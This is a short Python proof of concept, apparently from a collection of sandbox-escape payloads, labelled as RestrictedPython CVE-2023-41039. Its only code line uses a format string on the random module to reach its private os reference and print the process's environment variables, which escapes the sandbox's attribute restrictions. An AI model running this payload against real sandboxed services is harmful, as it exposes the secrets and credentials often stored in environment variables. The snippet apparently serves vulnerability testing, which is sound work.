# source: RestrictedPython CVE-2023-41039
# effect: environment

import random

print("{0._os.environ}".format(random))
